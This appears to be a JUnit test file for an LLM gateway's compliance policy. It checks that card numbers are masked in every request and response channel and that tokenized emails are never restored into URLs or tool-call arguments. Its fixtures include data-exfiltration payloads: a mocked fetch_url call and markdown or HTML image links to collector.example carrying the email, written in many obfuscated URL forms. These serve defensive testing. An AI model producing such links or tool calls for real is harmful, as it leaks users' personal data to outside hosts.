package dev.llmgate.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.llmgate.api.ChatRequest;
import dev.llmgate.api.ChatResponse;
import dev.llmgate.api.ContentPart;
import dev.llmgate.api.Message;
import dev.llmgate.api.ResponseFormat;
import dev.llmgate.api.StreamEvent;
import dev.llmgate.api.ToolCall;
import dev.llmgate.api.ToolDefinition;
import dev.llmgate.api.exception.PolicyBlockedException;
import dev.llmgate.core.LlmGate;
import dev.llmgate.core.Stage;
import dev.llmgate.policy.preset.CompliancePreset;
import dev.llmgate.policy.redact.TokenRestore;
import dev.llmgate.providers.openai.OpenAiProvider;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Every channel a value can travel through, attacked with the PCI DSS preset as docs/policy-presets.md
 * configures it: the card number must never reach the upstream request body and never come back
 * unmasked, whichever field carries it. The calls go through the real OpenAI adapter to a
 * MockWebServer; the assertions read the body that reached the server and the answer the caller got.
 */
class ChannelAttackTest {
    static final String PAN = "4111111111111111";
    private static final ObjectMapper JSON = new ObjectMapper();

    private MockWebServer server;
    private LlmGate gate;

    @BeforeEach
    void start() throws IOException {
        server = new MockWebServer();
        server.start();
        gate = gate(Policy.builder().preset(CompliancePreset.PCI_DSS).build());
    }

    private LlmGate gate(Policy policy) {
        if (gate != null) {
            gate.close();
        }
        OpenAiProvider provider = OpenAiProvider.builder()
                .apiKey("sk-test")
                .baseUrl(server.url("/v1").toString())
                .environment(Map.of())
                .build();
        gate = LlmGate.builder()
                .provider("openai", provider)
                .addInterceptor(Stage.POLICY, policy.interceptor())
                .build();
        return gate;
    }

    @AfterEach
    void stop() {
        gate.close();
        server.close();
    }

    // ---- what reached the provider ----

    /** Every string and number of the upstream JSON body, decoded, digits only, in document order. */
    private String upstreamDigits() throws Exception {
        RecordedRequest r = server.takeRequest(5, TimeUnit.SECONDS);
        assertThat(r).as("the provider was called").isNotNull();
        StringBuilder digits = new StringBuilder();
        collectDigits(JSON.readTree(r.getBody().utf8()), digits);
        return digits.toString();
    }

    private static void collectDigits(JsonNode n, StringBuilder out) {
        if (n.isTextual() || n.isNumber()) {
            String s = n.isTextual() ? n.textValue() : n.asText();
            for (int i = 0; i < s.length(); i++) {
                if (Character.isDigit(s.charAt(i))) {
                    out.append((char) ('0' + Character.digit(s.charAt(i), 10)));
                }
            }
        }
        for (Iterator<Map.Entry<String, JsonNode>> it = n.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> e = it.next();
            collectDigits(JSON.getNodeFactory().textNode(e.getKey()), out);
            collectDigits(e.getValue(), out);
        }
        if (n.isArray()) {
            for (JsonNode x : n) {
                collectDigits(x, out);
            }
        }
    }

    private void answer(String text) {
        server.enqueue(completion("\"content\":" + JSON.valueToTree(text).toString()));
    }

    private static MockResponse completion(String messageFields) {
        return new MockResponse.Builder()
                .addHeader("Content-Type", "application/json")
                .body("{\"id\":\"chatcmpl-1\",\"object\":\"chat.completion\","
                        + "\"created\":1699896916,\"model\":\"gpt-4o-mini\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
                        + messageFields
                        + "},\"logprobs\":null,\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":9,\"completion_tokens\":5,"
                        + "\"total_tokens\":14}}")
                .build();
    }

    private void sendsNoPan(ChatRequest request) throws Exception {
        answer("ok");
        gate.chat(request);
        assertThat(upstreamDigits()).doesNotContain(PAN);
    }

    private static ChatRequest.Builder request() {
        return ChatRequest.builder("openai:gpt-4o-mini");
    }

    @Test
    void aCardSplitOverTwoContentPartsOfOneMessage() throws Exception {
        sendsNoPan(request()
                .addMessage(Message.user(ContentPart.text("my card is 41111111"), ContentPart.text("11111111 thanks")))
                .build());
    }

    @Test
    void aCardSplitOverTwoUserMessages() throws Exception {
        sendsNoPan(request().user("my card is 41111111").user("11111111 thanks").build());
    }

    @Test
    void aCardInTheArgumentsOfAToolCallInTheHistory() throws Exception {
        sendsNoPan(request()
                .user("pay it")
                .addMessage(Message.assistant(
                        "", List.of(new ToolCall("call_1", "pay", "{\"pan\":\"" + PAN + "\",\"amount\":12}"))))
                .addMessage(Message.tool("call_1", "paid"))
                .user("thanks")
                .build());
    }

    @Test
    void aCardInAToolCallOfTheHistoryWrittenWithJsonEscapesOrAsANumber() throws Exception {
        sendsNoPan(request()
                .user("pay it")
                .addMessage(Message.assistant(
                        "",
                        List.of(
                                new ToolCall("call_1", "pay", "{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}"),
                                new ToolCall("call_2", "pay", "{\"pan\":" + PAN + "}"))))
                .addMessage(Message.tool("call_1", "paid"))
                .addMessage(Message.tool("call_2", "paid"))
                .user("thanks")
                .build());
    }

    @Test
    void aCardInAMessageName() throws Exception {
        sendsNoPan(
                request().addMessage(Message.user("hello").withName("u" + PAN)).build());
    }

    @Test
    void aCardInAToolDefinitionOrItsSchema() throws Exception {
        sendsNoPan(request()
                .user("hi")
                .addTool(ToolDefinition.of(
                        "pay",
                        "Pays with card " + PAN,
                        "{\"type\":\"object\",\"properties\":{\"pan\":{\"type\":\"string\",\"default\":\"" + PAN
                                + "\"}}}"))
                .build());
    }

    @Test
    void aCardInAResponseFormatSchema() throws Exception {
        sendsNoPan(request()
                .user("hi")
                .responseFormat(ResponseFormat.jsonSchema(
                        "answer",
                        "{\"type\":\"object\",\"description\":\"card " + PAN + "\",\"properties\":{}}",
                        false))
                .build());
    }

    @Test
    void aCardInAProviderOption() throws Exception {
        sendsNoPan(request()
                .user("hi")
                .providerOption("user", "customer-" + PAN)
                .providerOption("metadata", Map.of("card", PAN))
                .build());
    }

    @Test
    void aCardInTheQueryStringOfAnImageUrlEvenPercentEncoded() throws Exception {
        sendsNoPan(request()
                .addMessage(Message.user(
                        ContentPart.text("what is this?"),
                        ContentPart.imageUrl("https://img.example.com/receipt.png?pan=" + PAN),
                        ContentPart.imageUrl("https://img.example.com/receipt.png?pan=%34111%201111%201111%201111")))
                .build());
    }

    @Test
    void aCardInTheSystemOrDeveloperPrompt() throws Exception {
        sendsNoPan(request()
                .system("The customer's card is " + PAN + ".")
                .user("hi")
                .build());
        sendsNoPan(request()
                .addMessage(Message.developer("Card on file: " + PAN))
                .user("hi")
                .build());
    }

    @Test
    void systemPromptsAreTheApplicationsOwnUnderSoc2AndWhenNarrowed() throws Exception {
        gate(Policy.builder()
                .preset(CompliancePreset.PCI_DSS)
                .scanRoles(dev.llmgate.api.Role.USER)
                .build());
        answer("ok");
        gate.chat(request().system("Card on file: " + PAN).user("hi").build());
        assertThat(upstreamDigits())
                .as("scanRoles set after the preset narrows it")
                .contains(PAN);
    }

    @Test
    void aCardInAStopSequence() throws Exception {
        sendsNoPan(request().user("hi").addStop(PAN).build());
    }

    @Test
    void theRequestStaysValidJsonForTheProviderWhenValuesAreRedactedInsideJson() throws Exception {
        answer("ok");
        gate.chat(request()
                .user("pay it")
                .addMessage(Message.assistant(
                        "",
                        List.of(new ToolCall(
                                "call_1", "pay", "{\"pan\":" + PAN + ",\"n\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}"))))
                .addMessage(Message.tool("call_1", "paid"))
                .build());
        JsonNode body =
                JSON.readTree(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8());
        String args = body.get("messages")
                .get(1)
                .get("tool_calls")
                .get(0)
                .get("function")
                .get("arguments")
                .textValue();
        JsonNode parsed = JSON.readTree(args);
        assertThat(parsed.get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
        assertThat(parsed.get("n").isArray()).isTrue();
        assertThat(args).doesNotContain("1,1,1,1");
    }

    // ---- what came back ----

    @Test
    void toolCallArgumentsOfTheAnswerAreMasked() throws Exception {
        server.enqueue(completion(
                "\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\","
                        + "\"arguments\":\"{\\\"pan\\\":\\\"" + PAN + "\\\"}\"}}]"));
        ChatResponse r = gate.chat(request().user("save my card").build());
        assertThat(r.toolCalls()).singleElement().satisfies(tc -> {
            assertThat(JSON.readTree(tc.argumentsJson()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
        });
    }

    @Test
    void theRefusalIsMasked() {
        server.enqueue(completion("\"content\":null,\"refusal\":\"I cannot store " + PAN + ".\""));
        ChatResponse r = gate.chat(request().user("hi").build());
        assertThat(r.refusal()).hasValue("I cannot store [CREDIT_CARD ****1111].");
    }

    @Test
    void aJsonAnswerWithUnicodeEscapesIsMasked() throws Exception {
        answer("{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}");
        ChatResponse r = gate.chat(
                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
        assertThat(JSON.readTree(r.text()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
    }

    @Test
    void aCardSplitOverTwoJsonFieldsOfTheAnswerIsMasked() throws Exception {
        answer("{\"first\":\"41111111\",\"second\":\"11111111\"}");
        ChatResponse r = gate.chat(
                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build());
        JsonNode json = JSON.readTree(r.text());
        assertThat(json.get("first").textValue() + json.get("second").textValue())
                .doesNotContain("1111111")
                .contains("****1111");
    }

    // ---- streamed answers ----

    private static MockResponse sse(String... chunks) {
        StringBuilder body = new StringBuilder();
        for (String c : chunks) {
            body.append(
                            "data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
                                    + "\"choices\":[{\"index\":0,\"delta\":")
                    .append(c)
                    .append(",\"logprobs\":null,\"finish_reason\":null}]}\n\n");
        }
        body.append(
                "data: {\"id\":\"chatcmpl-1\",\"object\":\"chat.completion.chunk\",\"created\":1694268190,\"model\":\"gpt-4o-mini\","
                        + "\"choices\":[{\"index\":0,\"delta\":{},\"logprobs\":null,\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n");
        return new MockResponse.Builder()
                .addHeader("Content-Type", "text/event-stream")
                .body(body.toString())
                .build();
    }

    private ChatResponse stream(ChatRequest request, List<StreamEvent> seen) {
        return gate.stream(request, seen::add);
    }

    @Test
    void streamedToolCallArgumentsAreMasked() throws Exception {
        server.enqueue(sse(
                "{\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"save\",\"arguments\":\"\"}}]}",
                "{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"{\\\"pan\\\":\\\"4111\"}}]}",
                "{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"111111111111\\\"}\"}}]}"));
        List<StreamEvent> seen = new ArrayList<>();
        ChatResponse r = stream(request().user("save my card").build(), seen);
        assertThat(JSON.readTree(r.toolCalls().get(0).argumentsJson())
                        .get("pan")
                        .textValue())
                .isEqualTo("[CREDIT_CARD ****1111]");
        assertThat(seen.toString()).doesNotContain(PAN);
    }

    @Test
    void aStreamedRefusalIsMasked() {
        server.enqueue(sse("{\"refusal\":\"I cannot store 4111\"}", "{\"refusal\":\"111111111111.\"}"));
        ChatResponse r = stream(request().user("hi").build(), new ArrayList<>());
        assertThat(r.refusal()).hasValue("I cannot store [CREDIT_CARD ****1111].");
    }

    @Test
    void aStreamedJsonAnswerWithUnicodeEscapesIsMasked() throws Exception {
        server.enqueue(sse(
                "{\"content\":\"{\\\"pan\\\":\\\"\\\\u00\"}",
                "{\"content\":\"34\\\\u0031\\\\u0031\\\\u0031111111111111\\\"}\"}"));
        List<StreamEvent> seen = new ArrayList<>();
        ChatResponse r = stream(
                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), seen);
        assertThat(JSON.readTree(r.text()).get("pan").textValue()).isEqualTo("[CREDIT_CARD ****1111]");
    }

    @Test
    void aCardSplitOverTwoJsonFieldsOfAStreamedAnswerIsMasked() throws Exception {
        server.enqueue(sse(
                "{\"content\":\"{\\\"first\\\":\\\"4111\"}",
                "{\"content\":\"1111\\\",\\\"second\\\":\\\"11111111\\\"}\"}"));
        ChatResponse r = stream(
                request().user("hi").responseFormat(ResponseFormat.jsonObject()).build(), new ArrayList<>());
        JsonNode json = JSON.readTree(r.text());
        assertThat(json.get("first").textValue() + json.get("second").textValue())
                .doesNotContain("1111111")
                .contains("****1111");
    }

    // ---- tokenization and restore ----

    private static final String EMAIL = "john.doe@example.com";

    private void gdpr(TokenRestore... restore) {
        Policy.Builder b = Policy.builder().preset(CompliancePreset.GDPR);
        if (restore.length > 0) {
            b.restoreTokens(restore);
        }
        gate(b.build());
    }

    private MockResponse fetchUrlCall() {
        return completion(
                "\"content\":null,\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"fetch_url\","
                        + "\"arguments\":\"{\\\"url\\\":\\\"https://collector.example/c?e=[EMAIL_1]\\\",\\\"note\\\":\\\"for [EMAIL_1]\\\"}\"}}]");
    }

    @Test
    void aTokenizedValueIsNotRestoredIntoToolCallArgumentsByDefault() throws Exception {
        gdpr();
        server.enqueue(fetchUrlCall());
        ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
        assertThat(server.takeRequest(5, TimeUnit.SECONDS).getBody().utf8())
                .doesNotContain(EMAIL)
                .contains("[EMAIL_1]");
        assertThat(r.toolCalls().get(0).argumentsJson()).doesNotContain(EMAIL).contains("[EMAIL_1]");
    }

    @Test
    void restoringIntoArgumentsIsAChoiceAndUrlsNeedASecondOne() throws Exception {
        gdpr(TokenRestore.ANSWER_TEXT, TokenRestore.TOOL_CALL_ARGUMENTS);
        server.enqueue(fetchUrlCall());
        JsonNode args =
                JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build())
                        .toolCalls()
                        .get(0)
                        .argumentsJson());
        assertThat(args.get("note").textValue()).isEqualTo("for " + EMAIL);
        assertThat(args.get("url").textValue()).isEqualTo("https://collector.example/c?e=[EMAIL_1]");

        gdpr(TokenRestore.ANSWER_TEXT, TokenRestore.TOOL_CALL_ARGUMENTS, TokenRestore.URLS);
        server.enqueue(fetchUrlCall());
        args = JSON.readTree(gate.chat(request().user("Email me at " + EMAIL).build())
                .toolCalls()
                .get(0)
                .argumentsJson());
        assertThat(args.get("url").textValue()).isEqualTo("https://collector.example/c?e=" + EMAIL);
    }

    @Test
    void answerTextIsRestoredButNotInsideAUrl() {
        gdpr();
        answer(
                "I will write to [EMAIL_1]. Track it at https://collector.example/c?e=[EMAIL_1] or ![x](https://img.example/p.png?u=[EMAIL_1])");
        ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
        assertThat(r.text())
                .isEqualTo("I will write to " + EMAIL + ". Track it at https://collector.example/c?e=[EMAIL_1] or "
                        + "![x](https://img.example/p.png?u=[EMAIL_1])");
    }

    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(
            strings = {
                "![a](https&colon;//collector.example/c?e=[EMAIL_1])", // CommonMark decodes the reference
                "<img src=\"https:\\\\collector.example/c?e=[EMAIL_1]\">", // https:\\ reads as https://
                "<img src=\"\\\\collector.example/c?e=[EMAIL_1]\">",
                "![a](http:collector.example/c?e=[EMAIL_1])", // a special scheme needs no slashes
                "![a](https://collector.example/c?e=([EMAIL_1]))",
                "![a](HTTPS://collector.example/c?e=[EMAIL_1])",
                "[mail me](mailto:x@collector.example?body=[EMAIL_1])",
                "(www.collector.example/?q=[EMAIL_1])",
                "<img src=\"https&colon;&sol;&sol;collector.example/c?e=[EMAIL_1]\">",
                "<img src=\"/\\collector.example/c?e=[EMAIL_1]\">"
            })
    void aValueIsNotRestoredIntoAUrlHoweverTheUrlIsWritten(String url) {
        gdpr();
        answer("Done: " + url);
        ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
        assertThat(r.text()).as(url).doesNotContain(EMAIL).contains("[EMAIL_1]");
    }

    @Test
    void aValueAfterAnEscapedLineBreakInAJsonAnswerIsRestored() throws Exception {
        gdpr();
        answer("{\"reply\":\"Write to\\n[EMAIL_1]\"}");
        ChatResponse r = gate.chat(request()
                .user("Email me at " + EMAIL)
                .responseFormat(ResponseFormat.jsonObject())
                .build());
        assertThat(JSON.readTree(r.text()).get("reply").textValue()).isEqualTo("Write to\n" + EMAIL);
    }

    @Test
    void aValueRestoredIntoAJsonAnswerKeepsItJson() throws Exception {
        gate(Policy.builder()
                .detector(dev.llmgate.policy.detect.DenyListDetector.builder()
                        .id("quoted")
                        .regex("QUOTED", "\"[a-z]{3,10}\\\\?\"")
                        .build())
                .rule(Rule.of("quoted", Verdict.CONSTRAIN, "QUOTED"))
                .redaction("QUOTED", dev.llmgate.policy.redact.RedactionMode.TOKENIZE)
                .build());
        answer("{\"to\":\"[QUOTED_1]\"}");
        ChatResponse r = gate.chat(request()
                .user("call me \"johnny\\\" please")
                .responseFormat(ResponseFormat.jsonObject())
                .build());
        assertThat(JSON.readTree(r.text()).get("to").textValue()).isEqualTo("\"johnny\\\"");
        server.enqueue(sse("{\"content\":\"{\\\"to\\\":\\\"[QUO\"}", "{\"content\":\"TED_1]\\\"}\"}"));
        ChatResponse s = stream(
                request()
                        .user("call me \"johnny\\\" please")
                        .responseFormat(ResponseFormat.jsonObject())
                        .build(),
                new ArrayList<>());
        assertThat(JSON.readTree(s.text()).get("to").textValue()).isEqualTo("\"johnny\\\"");
    }

    @Test
    void aStreamedAnswerIsNotRestoredInsideAUrlSplitAcrossChunks() {
        gdpr();
        server.enqueue(sse(
                "{\"content\":\"See https://collector.exa\"}",
                "{\"content\":\"mple/c?e=[EMA\"}",
                "{\"content\":\"IL_1] and [EMAIL_1].\"}"));
        ChatResponse r = stream(request().user("Email me at " + EMAIL).build(), new ArrayList<>());
        assertThat(r.text()).isEqualTo("See https://collector.example/c?e=[EMAIL_1] and " + EMAIL + ".");
    }

    @Test
    void aBlockedChannelNamesNoValue() {
        gate(Policy.builder().preset(CompliancePreset.PCI_DSS).build());
        assertThatThrownBy(() -> gate.chat(request()
                        .user("hi")
                        .addTool(ToolDefinition.of("t", "cvv 123 for card", "{\"type\":\"object\"}"))
                        .build()))
                .isInstanceOf(PolicyBlockedException.class)
                .hasMessageNotContaining("123");
    }
}
